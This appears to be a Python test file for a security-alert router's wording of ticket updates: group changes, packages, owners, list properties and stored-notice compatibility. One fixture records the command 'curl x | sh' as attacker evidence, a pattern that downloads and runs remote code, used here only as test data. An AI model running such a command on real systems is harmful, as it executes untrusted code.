"""Updates that say a change that was none, and facts that a page lacks."""

from __future__ import annotations

import json
from typing import Any

from router.destinations.paging import details_of
from router.destinations.wording.changes import changes_between
from router.destinations.wording.notice_text import briefing_of
from router.domain.decisions import Change
from router.domain.deliveries import NO_BACKGROUND, Background, Counterpart
from router.domain.evidence import Evidence
from router.domain.owners import Owner
from router.domain.rulebook import Lane
from router.store.codec import decode, encode
from tests.destinations.builders import NOW, a_briefing, a_group, a_notice, a_software_update


def test_another_member_of_a_group_takes_nothing_away_from_the_first() -> None:
    """A group's update is in the words of its latest member: what only the first one has still stands."""
    first = a_notice(evidence=Evidence(accounts=("alice",), ips=("203.0.113.7",)))
    second = a_notice(
        id="another", evidence=Evidence(accounts=("bob",), ips=("203.0.113.9",)), group=a_group(total=2, standing=2)
    )
    said = "\n".join(changes_between(first, second))
    assert "1 more signal: 2 in all." in said
    assert "No longer in" not in said


def test_another_finding_of_a_group_changes_no_package_and_no_owner() -> None:
    """Two findings in one ticket have two packages; neither became the other."""
    other: dict[str, Any] = {"id": "another", "package": None, "cves": ("CVE-2026-2",), "owner": Owner(group="b")}
    said = "\n".join(changes_between(a_software_update(), a_software_update(**other, group=a_group())))
    assert "Package" not in said
    assert "Owner" not in said
    assert "No longer in CVEs" not in said


def test_a_page_has_each_element_of_a_property() -> None:
    """A property that holds a list is told whole, as tickets tell it."""
    notice = a_notice(extended={"Odd Things": json.dumps(["first", "second", "third"])}, unlisted=("Odd Things",))
    told = details_of(briefing_of(notice, Change.OPENED, NO_BACKGROUND, NOW))
    assert all(word in str(told) for word in ("first", "second", "third"))


def test_nobody_is_sent_to_what_cannot_be_looked_up() -> None:
    """A mail's number in its server's queue, a webhook's id and `no open issue` are no tickets."""
    mail = Counterpart(destination="mail", lane=Lane.TICKET, reference="4XQueueId12")
    assert a_briefing(a_notice(), background=Background(elsewhere=(mail,))).in_full is None


def test_what_an_older_program_did_not_know_is_no_change() -> None:
    """2824f6a kept no list of commands, locations or attackers: of 194 messages of the samples 73 would say `New in ...`."""
    whole = a_notice(evidence=Evidence(commands=("curl x | sh",), attackers=("203.0.113.7",), ips=("203.0.113.7",)))
    stored = json.loads(encode(whole))
    del stored["is_whole"]
    for name in ("commands", "attackers"):
        del stored["evidence"][name]
    last = decode(type(whole), json.dumps(stored).encode())
    assert changes_between(last, whole) == ()
